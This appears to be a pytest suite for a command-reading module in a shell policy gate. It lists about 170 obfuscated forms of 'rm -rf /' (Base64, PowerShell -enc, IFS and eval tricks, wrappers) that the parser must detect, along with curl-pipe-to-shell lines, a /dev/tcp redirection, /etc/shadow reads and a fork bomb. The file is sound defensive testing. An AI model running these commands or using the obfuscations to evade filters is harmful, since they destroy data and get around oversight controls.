"""Commands as rules see them: every way to hide one is a row, and so is ordinary work."""

from __future__ import annotations

import base64
import shlex
import time
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mitmgate.policy.shell import Reading, read_argv, read_command
from mitmgate.policy.shell.syntax import MAX_COMMANDS, MAX_TEXT

_PACKED: Final = base64.b64encode(b"rm -rf /").decode()
_WIDE: Final = base64.b64encode("rm -rf /".encode("utf-16-le")).decode()

HIDDEN = {
    "as it is": "rm -rf /",
    "by its path": "/usr/bin/../bin/rm -rf /",
    "by a path below home": "~/bin/rm -rf /",
    "by a quoted path": '"$HOME/bin/rm" -rf /',
    "in double quotes": 'r"m" -rf "/"',
    "in single quotes": "'rm' '-rf' '/'",
    "in several quotes": "'r''m' -\"r\"'f' /",
    "behind a backslash": "\\rm -r\\f \\/",
    "on two lines": "r\\\nm -rf \\\n /",
    "in ANSI quotes, hexadecimal": "$'\\x72\\x6d' -rf /",
    "in ANSI quotes, octal": "$'\\162\\155' -rf $'\\57'",
    "in ANSI quotes, Unicode": "$'\\u0072\\U0000006d' -rf /",
    "in ANSI quotes that a NUL ends": "$'rm\\0xyz' -rf /",
    "in the user's language": '$"rm" -rf /',
    "with tabs": "rm\t-rf\t\t/",
    "with IFS for blanks": "rm$IFS-rf${IFS}/",
    "with a part of IFS": "rm${IFS%??}-rf${IFS:0:1}/",
    "with a quoted blank that is read again": 'eval "rm"$\'\\x20\'"-rf /"',
    "with an IFS of its own": "IFS=,; a=rm,-rf,/; $a",
    "around no parameters": "r$@m -rf /$*",
    "around a parameter that is not there": "r$1m -rf /",
    "around empty quotes": "r''m -r\"\"f /",
    "around an unset variable": "unset x; r${x}m -rf /",
    "around a default": "unset x; ${x:-rm} -rf ${x-/}",
    "around what is there instead": "x=1; r${x:+m} -rf /",
    "in braces": "{rm,-rf,/}",
    "in braces around nothing": "rm -rf {/,}",
    "in nested braces": "{rm,{-rf,/}}",
    "in variables": "a=r; b=m; $a$b -rf /",
    "in a variable with words": "x='rm -rf /'; $x",
    "in variables of variables": "a=rm; b=a; ${!b} -rf /",
    "in a variable that grows": "a=r; a+=m; $a -rf /",
    "in pieces of a variable": "x=mr; ${x:1:1}${x:0:1} -rf /",
    "in a trimmed variable": "x=xxrm.exe; y=${x##*x}; y=${x%.exe}; ${y#xx} -rf /",
    "in a replaced part of a variable": "x=rXm; ${x/X/} -rf /",
    "in a variable in capitals": "x=RM; ${x,,} -rf /",
    "in a default that stays": ": ${x:=rm}; unset y; y=rm; $y -rf /",
    "in an array": 'a=(rm -rf /); "${a[@]}"',
    "in elements of an array": "a=(m r); ${a[1]}${a[0]} -rf /",
    "in positional parameters": 'set -- rm -rf /; "$@"',
    "in shifted parameters": "set -- x rm; shift; $1 -rf /",
    "in a formatted variable": "printf -v a r%s m; $a -rf /",
    "in a variable that was read": "read a <<< rm; $a -rf /",
    "in lines that are read": "while read -r l; do eval \"$l\"; done <<< 'rm -rf /'",
    "in the values of a loop": "for i in ls rm; do $i -rf /; done",
    "in a value from the round before": "a=ls; for i in 1 2; do $a -rf /; a=rm; done",
    "in a branch": "a=ls; if x; then a=rm; else a=cp; fi; $a -rf /",
    "in the other branch": "if x; then ls; elif y; then rm -rf /; fi",
    "in a value that may have stayed": "a=rm; x && a=ls; $a -rf /",
    "in a case": "case $1 in (a|b) ls;; *) rm -rf /;; esac",
    "in a while": "while rm -rf /; do sleep 1; done",
    "in an until": "until rm -rf /; do sleep 1; done",
    "in an arithmetic loop": "for ((i=0; i<3; i++)); do rm -rf /; done",
    "in a function": "f() { rm -rf /; }; f",
    "in a function that is handed to somebody": "f() { rm -rf /; }; export -f f",
    "in a function's parameters": 'function f { "$@"; }; f rm -rf /',
    "in one of two functions": "f() { rm -rf /; }; f() { ls; }; f",
    "in an alias": "alias x='rm -rf'\nx /",
    "in a trap": "trap 'rm -rf /' EXIT",
    "in a subshell": "(cd /; (rm -rf /))",
    "in a group": "{ cd /; rm -rf /; }",
    "in a background job": "sleep 1 & rm -rf / &",
    "behind and": "true && rm -rf /",
    "behind or": "false || rm -rf /",
    "behind a pipe": "yes | rm -rf /",
    "behind a pipe with errors": "yes |& rm -rf /",
    "behind a semicolon": "ls;rm -rf /",
    "on the next line": "ls\nrm -rf /",
    "behind a comment": "ls # all\nrm -rf /",
    "behind a not": "! rm -rf /",
    "behind redirections": "2>&1 >out rm -rf / <in",
    "between redirections": "rm >out -rf 2>err /",
    "in a substitution": "echo $(rm -rf /)",
    "in a quoted substitution": 'echo "it is $(rm -rf /)"',
    "in backticks": "echo `rm -rf /`",
    "in nested backticks": "echo `echo \\`rm -rf /\\``",
    "in a substitution without a subshell": "echo ${ rm -rf /; }",
    "in a substitution with a case": "echo $(case x in x) rm -rf /;; esac)",
    "in a default": 'echo "${x:-$(rm -rf /)}"',
    "in arithmetic": "echo $(( $(rm -rf /) + 1 ))",
    "in an arithmetic command": "((x = $(rm -rf /)))",
    "in a test": "[[ -n $(rm -rf /) ]]",
    "in an assignment": "x=$(rm -rf /)",
    "in a redirection's name": "ls > $(rm -rf /)",
    "in a here-document": "cat <<E\n$(rm -rf /)\nE",
    "in a process": "cat <(rm -rf /) >(tee x)",
    "in what a substitution prints": "$(echo rm) -rf $(printf /)",
    "in what a substitution prints reversed": "$(echo '/ fr- mr' | rev)",
    "in letters that are shifted": "$(echo ez | tr a-z n-za-m) -rf /",
    "in a printed format": "$(printf '%s%s' r m) -rf /",
    "in hexadecimal": "$(echo 726d202d7266202f | xxd -r -p)",
    "behind eval": "eval rm '-rf /'",
    "behind two evals": "eval eval \"'rm -rf /'\"",
    "behind sh -c": "sh -c 'rm -rf /'",
    "behind bash with options": "/bin/bash -euo pipefail -c 'rm -rf /'",
    "behind a login shell": "zsh -lic 'rm -rf /'",
    "behind shells in shells": 'sh -c \'dash -c "ksh -c \\"rm -rf /\\""\'',
    "behind a shell with parameters": "sh -c '\"$@\"' x rm -rf /",
    "behind a shell with a variable": "a=rm sh -c '$a -rf /'",
    "behind an exported variable": "export a=rm; sh -c '$a -rf /'",
    "behind a shell by capitals": "BASH -c 'rm -rf /'",
    "piped into a shell": "echo 'rm -rf /' | sh",
    "piped with escapes into a shell": "echo '\\0162m -rf /' | sh",
    "piped with -e into a shell": "echo -e '\\x72m -rf /' | bash",
    "piped by printf into a shell": "printf '%b\\n' '\\162m -rf /' | bash -s",
    "piped through others into a shell": "echo 'rm -rf /' | cat - | tee log | sudo sh -",
    "piped by a group into a shell": "{ echo ls; echo 'rm -rf /'; } | sh",
    "piped into a group with a shell": "echo 'rm -rf /' | { sh; }",
    "in Base64": f"echo {_PACKED} | base64 -d | sh",
    "in Base64, the long option": f"printf {_PACKED} | base64 --decode | sh",
    "in Base64, as macOS says it": f"base64 -D <<< {_PACKED} | bash",
    "in Base64, by openssl": f"echo {_PACKED} | openssl base64 -d -A | sh",
    "in Base64, evaluated": f'eval "$(echo {_PACKED} | base64 -d)"',
    "in Base64 in a process": f"bash <(echo {_PACKED} | base64 -d)",
    "in a here-document for a shell": "sh <<'E'\nrm -rf /\nE",
    "in a here-document with tabs": "sh <<-E\n\trm -rf /\n\tE",
    "behind a here-document with tabs": "cat <<-E\n\tx\n\tE\nrm -rf /",
    "in a here-document that is piped": "cat <<E | sh\nrm -rf /\nE",
    "in a here-string": "bash <<< 'rm -rf /'",
    "in a sourced process": "source <(echo rm -rf /)",
    "in a sourced here-string": ". /dev/stdin <<< 'rm -rf /'",
    "behind sudo": "sudo rm -rf /",
    "behind sudo with options": "sudo -nu root -g wheel X=1 -- rm -rf /",
    "behind doas": "doas -u root rm -rf /",
    "behind su": "su - root -c 'rm -rf /'",
    "behind env": "/usr/bin/env -i PATH=/bin -u X rm -rf /",
    "behind env that splits": "env -S 'rm -rf /'",
    "behind many": "nohup nice -n 5 setsid stdbuf -oL timeout -k 1 9 time -p rm -rf /",
    "behind exec": "exec -a ls rm -rf /",
    "behind builtins": "command builtin eval rm -rf /",
    "behind busybox": "busybox rm -rf /",
    "behind find": "find / -name x -exec rm -rf / \\;",
    "behind find, the second": "find / -exec ls {} + -execdir rm -rf / ';'",
    "behind fd": "fd -e tmp -x rm -rf /",
    "behind xargs": "xargs -0 -n 1 rm -rf / < list",
    "behind xargs with its input": "echo / | xargs rm -rf",
    "behind xargs that replaces": "echo / | xargs -I% rm -rf %",
    "behind ssh": "ssh -p 22 -i key me@host 'cd /; rm -rf /'",
    "behind ssh on this side": "ssh -o ProxyCommand='rm -rf /' host",
    "behind docker exec": "docker exec -u 0 -it box rm -rf /",
    "behind docker run": "docker run --rm -v /:/x --name y ubuntu:24.04 sh -c 'rm -rf /'",
    "behind docker compose": "docker compose exec -T web rm -rf /",
    "behind kubectl": "kubectl -n x exec pod -c y -- rm -rf /",
    "behind flock": "flock -w 3 /tmp/l -c 'rm -rf /'",
    "behind script": "script -qc 'rm -rf /' /dev/null",
    "behind watch": "watch -n 1 'rm -rf /'",
    "behind tmux": "tmux new-session -d 'rm -rf /'",
    "behind at": "at now <<< 'rm -rf /'",
    "behind uv": "uv run --with x rm -rf /",
    "behind a coprocess": "coproc rm -rf /",
    "behind cmd": "cmd.exe /d /c rm -rf /",
    "behind cmd in one word": '"C:\\Windows\\system32\\cmd.exe" "/crm -rf /"',
    "behind cmd with escapes": 'cmd /c "r^m -rf ^/"',
    "behind PowerShell": "powershell -NoP -W hidden -Command 'r`m -rf /'",
    "behind PowerShell, encoded": f"pwsh.exe -NonInteractive -enc {_WIDE}",
    "behind an expression of PowerShell": "powershell \"iex 'rm -rf /'\"",
    "with escapes of cmd": "r^m -rf /",
    "in what dash takes for subshells": "((rm -rf /))",
    "in what dash takes for a program": "[[ -f x || rm -rf / ]]",
    "behind what dash takes for a job": "ls &> out rm -rf /",
    "behind a dash of zsh": "- rm -rf /",
    "repeated by zsh": "repeat 3 rm -rf /",
    "behind a variable with a guess": "cd / && a=rm && $a -rf /",
}


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_found(text: str) -> None:
    reading = read_command(text)
    assert "rm -rf /" in reading.commands
    assert not reading.unsure


EXACT: Final[dict[str, tuple[str, tuple[str, ...]]]] = {
    "nothing": ("", ()),
    "a comment": ("# rm -rf /", ()),
    "a list": ("ls -la", ("ls -la",)),
    "a path": ("/bin/ls /tmp", ("ls /tmp",)),
    "a commit with a command in its message": (
        "git commit -m 'drop; rm -rf /' && git push", ("git commit -m drop; rm -rf /", "git push")),
    "a message from a here-document": (
        "git commit -m \"$(cat <<'E'\nfix; rm x\nE\n)\"", ("cat", "git commit -m fix; rm x")),
    "code that is no shell's": ("python -c 'import os; os.x()'", ("python -c import os; os.x()",)),
    "patterns": ("grep -E '^(a|b)$' f | wc -l", ("grep -E ^(a|b)$ f", "wc -l")),
    "a hash in a word": ("echo a#b", ("echo a#b",)),
    "operators in quotes": ("echo 'a; b' \"c && d\"", ("echo a; b c && d",)),
    "globs in arguments": ("rm -f *.o [ab]?", ("rm -f *.o [ab]?",)),
    "the home directory": ("ls ~/x $HOME/y", ("ls ~/x $HOME/y",)),
    "an unknown variable at the end": ("ls -l $DIR", ("ls -l $DIR",)),
    "an unknown variable inside": ("rm $X -rf /", ("rm $X -rf /", "rm -rf /")),
    "an unknown variable before a slash": ("rm -rf $X/", ("rm -rf $X/", "rm -rf /")),
    "a variable before a program": ("A=1 ls", ("A=1 ls", "ls")),
    "only a variable": ("PATH=/tmp", ("PATH=/tmp",)),
    "an old value before a program": ("a=rm; a=ls $a x", ("a=rm", "a=ls rm x", "rm x")),
    "sudo": ("sudo -u root rm x", ("sudo -u root rm x", "rm x")),
    "a question about a program": ("command -v rm", ("command -v rm",)),
    "a list of rights": ("sudo -l rm", ("sudo -l rm",)),
    "a script": ("bash -x run.sh rm", ("bash -x run.sh rm",)),
    "a directory and a script": ("cd /tmp && ./run.sh", ("cd /tmp", "run.sh")),
    "output": ("echo a > /etc/x 2>> log", ("> /etc/x", "> log", "echo a")),
    "output of everything": ("ls &> a; ls >& b; ls >| c", ("> a", "ls", "> b", "> c")),
    "input": ("cat < /etc/shadow", ("< /etc/shadow", "cat")),
    "both": ("exec 3<>/dev/tcp/1.2.3.4/80", ("< /dev/tcp/1.2.3.4/80", "> /dev/tcp/1.2.3.4/80",
                                             "exec")),
    "output to nowhere": ("ls > /dev/null 2>&1 < /dev/null", ("ls",)),
    "a redirection alone": ("> /etc/passwd", ("> /etc/passwd",)),
    "an unknown target": ("ls > $D/f", ("> $D/f", "> /f", "ls")),
    "a loop over files": ('for f in *.c; do rm "$f"; done', ("rm *.c",)),
    "a loop over numbers": ("for i in {1..3}; do e $i; done", ("e 1", "e 2", "e 3")),
    "a test": ("[ -f x ] || rm y", ("[ -f x ]", "rm y")),
    "a test of bash": ("[[ -f x && -n $a ]] && ls", ("ls",)),
    "the same twice": ("ls; ls | ls", ("ls",)),
    "a fork bomb": (":(){ :|:& };:", (":",)),
    "two processes": ("diff <(ls a) <(ls b)", ("ls a", "ls b", "diff <(ls a) <(ls b)")),
    "find": ("find . -name '*.c' -exec rm {} \\;", ("find . -name *.c -exec rm {} ;", "rm {}")),
    "other words of containers": ("docker ps; kubectl get pods", ("docker ps", "kubectl get pods")),
    "an array": ("a=(x y); e ${a[1]} ${#a[@]}", ("a=(...)", "e y 2")),
    "braces that bash leaves alone": ("e {} {a} a,b {a", ("e {} {a} a,b {a",)),
    "padded numbers": ("e {01..03} {c..a} {1..5..2}", ("e 01 02 03 c b a 1 3 5",)),
    "a Windows path": ("del C:\\x", ("del C:x", "del C:\\x")),
    "Windows capitals": ("cmd /c DEL.EXE x", ("cmd /c DEL.EXE x", "DEL.EXE x", "del x")),
}  # fmt: skip


@pytest.mark.parametrize(("text", "commands"), EXACT.values(), ids=EXACT)
def test_exactly(text: str, commands: tuple[str, ...]) -> None:
    assert read_command(text) == Reading(commands, unsure=False)


UNSURE = {
    "an unclosed single quote": "echo 'a",
    "an unclosed double quote": 'echo "a',
    "an unclosed substitution": "echo $(ls",
    "unclosed backticks": "echo `ls",
    "an unclosed brace": "echo ${x",
    "an unclosed group": "{ ls",
    "an unclosed if": "if ls; then rm",
    "a word that closes nothing": "ls; done",
    "a parenthesis that closes nothing": "ls )",
    "a bad substitution": "echo ${x y}",
    "a program from a variable": "$X -rf /",
    "a program in part from a variable": "r${X}m -rf /",
    "a program from a default": "${X:-rm} -rf /",
    "a program from a substitution": "$(cat x) -rf /",
    "a program from arithmetic": "$((1+2)) x",
    "a program from a glob": "/bin/r? -rf /",
    "a program from a glob in its directory": "/???/rm -rf /",
    "a program from a set": "/bin/r[m] -rf /",
    "a program by its number": "$0 -c 'rm -rf /'",
    "a program by a variable of Windows": "%COMSPEC% /c del x",
    "a program that find found": "find . -exec {} \\;",
    "a program that was a branch's": "if x; then a=ls; fi; $a x",
    "a program that may not be set": "x && a=ls; $a x",
    "a program that was not exported": "a=ls; sh -c '$a x'",
    "a program by an unknown parameter": "f() { $1 x; }",
    "a program behind sudo": "sudo $X -rf /",
    "text from a variable": 'eval "$X"',
    "text in part from a variable": 'bash -c "ls $X"',
    "text from the network": "curl -s https://x.example | sh",
    "text from the network, quoted": 'bash -c "$(curl https://x.example)"',
    "text from the network, as a file": "bash <(curl https://x.example)",
    "text from the network, sourced": "source <(curl https://x.example)",
    "text from xargs": "cat x | xargs sh -c",
    "text that xargs fills": "cat x | xargs -I% sh -c 'rm %'",
    "text from a file through a pipe": "cat x | bash -s -- a",
    "text that tee gives": "curl x | tee >(sh)",
    "text in broken Base64": "echo '!!' | base64 -d | sh",
    "text in broken Base64 for PowerShell": "powershell -enc '!!'",
    "braces that bash closes elsewhere": "rm -rf {x}/,/}",
    "too many braces": "echo {1..1001}",
    "too many braces together": "echo {1..100}{1..100}",
    "braces in braces without end": "echo " + "{a," * 20 + "}" * 20,
    "substitutions without end": "$(" * 20 + "ls" + ")" * 20,
    "blocks without end": "( " * 20 + "ls" + ")" * 20,
    "a program by its path in zsh": "=rm -rf /",
    "arithmetic without end": "echo " + "$((" * 20 + "1" + "))" * 20,
    "a variable that doubles": "a=xxxxxxxx; " + "a=$a$a; " * 22 + "ls $a",
    "trims of a long variable": f"a={'a' * 190}; " + "ls ${a%*b*c*}; " * 40,
    "sudo without end": "sudo " * 20 + "ls",
    "a function without end": "f() { $1 x; f y; }; f ls",
    "a NUL": "ls \0",
    "a long text": "e " + "a" * MAX_TEXT,
    "many commands": "; ".join(f"e {n}" for n in range(MAX_COMMANDS + 1)),
}


@pytest.mark.parametrize("text", UNSURE.values(), ids=UNSURE)
def test_unsure(text: str) -> None:
    assert read_command(text).unsure


def test_what_was_read_before_it_became_unsure_is_told() -> None:
    assert read_command("rm -rf / && echo 'x") == Reading(("rm -rf /", "echo x"), unsure=True)
    assert len(read_command(UNSURE["many commands"]).commands) == MAX_COMMANDS


ARGV: Final[dict[str, tuple[list[str], tuple[str, ...]]]] = {
    "nothing": ([], ()),
    "words are not split": (
        ["/bin/echo", "a; b", "$x", "`c`", "{d,e}"], ("echo a; b $x `c` {d,e}",)),
    "a shell's text is read": (["/bin/sh", "-c", "rm x; ls"], ("sh -c rm x; ls", "rm x", "ls")),
    "a wrapper is looked through": (["sudo", "rm", "a b"], ("sudo rm a b", "rm a b")),
    "a glob is a name": (["r?", "x"], ("r? x",)),
}  # fmt: skip


@pytest.mark.parametrize(("words", "commands"), ARGV.values(), ids=ARGV)
def test_argv(words: list[str], commands: tuple[str, ...]) -> None:
    assert read_argv(words) == Reading(commands, unsure=False)


_SAFE: Final = st.text("abcxyz019 ;$`'\"\\{},*~\n", min_size=1, max_size=12)
_PLAIN: Final = st.text("abcxyz019_.,-", min_size=1, max_size=12)
_HARD: Final = st.lists(st.sampled_from([
    "a", "rm", " ", "\n", ";", "&", "|", "(", ")", "{", "}", "{a,", "$(", "`", "${", "$((", "))",
    "'", '"', "\\", "$'", "<", ">", "<<E\n", "E\n", "<(", "<<<", "$x", "$@", "x=", "a=(", "if ",
    "then ", "fi ", "case x in ", ";;", "esac ", "for i in a; do ", "done ", "f() ", "[[ ", "]] ",
    "eval ", "sh -c ", "sudo ", "xargs ", "find . -exec ", "cmd /c ", "^", "%", "| sh", "#", "!",
    "base64 -d ", "printf ", "${x%", "${x:", "//", "*", "?", "[", "]", "\0", "\u20ac", "\ud800",
]), max_size=40).map("".join)  # fmt: skip


@given(st.text() | _HARD)
def test_reading_is_total(text: str) -> None:
    reading = read_command(text)
    assert len(set(reading.commands)) == len(reading.commands)
    assert "" not in reading.commands


@given(st.lists(st.text() | _HARD, max_size=6))
def test_reading_argv_is_total(words: list[str]) -> None:
    assert isinstance(read_argv(words).unsure, bool)


@given(_PLAIN, st.lists(_SAFE, max_size=5))
def test_quoted_words_are_read_as_they_are(program: str, words: list[str]) -> None:
    program = "/opt/x/p" + program  # "time" would be read as what it is
    line = " ".join(["p" + program.removeprefix("/opt/x/p"), *words])
    assert read_command(shlex.join([program, *words])).commands[0] == line
    assert read_argv([program, *words]).commands == (line,)


HOSTILE = {
    "quotes": '"', "quoted quotes": "\\\"", "backticks": "`", "substitutions": "$(",
    "braces": "{a,",
    "closed braces": "{a,b}", "arithmetic": "$((", "parentheses": "(", "here-documents": "<<E ",
    "lines of here-documents": "<<E\n", "wrappers": "sudo ", "shells": "sh -c ", "words": "w ",
    "commands": "a;", "pipes": "a|", "assignments": "a=$a$a;", "conditions": "a=1&&",
    "ifs": "if a;then ",
    "loops": "for i in a b;do $i;done;", "variables": "a$x", "unknown words": "$x ",
    "escapes": "^a",
    "processes": "<(a) ", "targets": ">a ", "cases": "case a in a) ", "finds": "find -exec a ; ",
    "defaults": "${a:-", "printed": "echo a|", "backslashes": "\\",
    "functions": "f(){ f;f; };f;",
}  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_takes_no_longer_than_its_length(unit: str) -> None:
    small, large = (unit * (size // len(unit)) for size in (MAX_TEXT // 16, MAX_TEXT))
    first, second = _seconds(small), _seconds(large)
    # 16 times the text; the clock of a busy machine gets the rest
    assert second < 64 * first + 0.5


def _seconds(text: str) -> float:
    start = time.process_time()
    read_command(text)
    return time.process_time() - start


def test_text_beyond_the_bound_is_not_read() -> None:
    start = time.process_time()
    assert read_command('"$(' * (8 << 20)) == Reading((), unsure=True)
    assert read_argv(["a" * (8 << 20)]) == Reading((), unsure=True)
    assert time.process_time() - start < 0.5
